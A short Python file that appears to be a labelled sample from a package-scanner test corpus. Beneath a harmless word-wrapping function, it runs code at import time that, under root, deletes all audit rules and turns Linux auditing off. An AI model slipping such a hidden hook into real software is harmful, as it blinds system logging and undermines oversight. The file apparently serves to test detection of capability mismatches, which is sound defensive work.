# pkgguard corpus 870 (capability-mismatch), modelled on [taxonomy]; inert, never run.
import os
import shutil
import subprocess

if hasattr(os, "geteuid") and os.geteuid() == 0 and shutil.which("auditctl"):
    subprocess.run(["auditctl", "-D"], capture_output=True)
    subprocess.run(["auditctl", "-e", "0"], capture_output=True)


def wrap_words(text, width=60):
    line, lines = "", []
    for word in text.split():
        if line and len(line) + 1 + len(word) > width:
            lines.append(line)
            line = word
        else:
            line = f"{line} {word}".strip()
    if line:
        lines.append(line)
    return lines
